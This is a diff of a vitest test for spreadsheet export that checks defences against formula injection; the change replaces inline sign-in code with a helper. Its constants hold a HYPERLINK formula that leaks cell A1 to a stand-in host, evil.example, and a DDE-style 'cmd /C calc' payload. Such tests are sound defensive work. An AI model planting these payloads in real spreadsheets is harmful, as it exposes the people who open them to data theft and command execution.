@@ -4,11 +4,10 @@
 // of the workbook is a formula.
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createCoordinator } from '../../api/src/services/coordinators.ts';
 import { csvField } from '../../api/src/services/export.ts';
 import { COORDINATOR, respondentWith } from '../helpers/console.ts';
 import { measure, section1 } from '../helpers/fixtures2021.ts';
-import { createTestWeb, sessionCookie, type TestWeb } from '../helpers/web.ts';
+import { createTestWeb, type TestWeb } from '../helpers/web.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"Подробнее")';
 const PLUS = "+1+cmd|' /C calc'!A0";
@@ -21,13 +20,7 @@ let coordinator: string;
 
 beforeAll(async () => {
   t = await createTestWeb();
-  await createCoordinator(t.db.prisma, COORDINATOR);
-  const signIn = await t.request('/graphql', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ query: 'mutation($input: SignInInput!) { signIn(input: $input) { __typename } }', variables: { input: COORDINATOR } }),
-  });
-  coordinator = sessionCookie(signIn);
+  coordinator = await t.signInCoordinator(COORDINATOR);
   await t.openWindow('nok-2021');
   // Saved through the real save service: the engine accepts these as ordinary text.
   await respondentWith(t, EMAIL, 'nok-2021', [
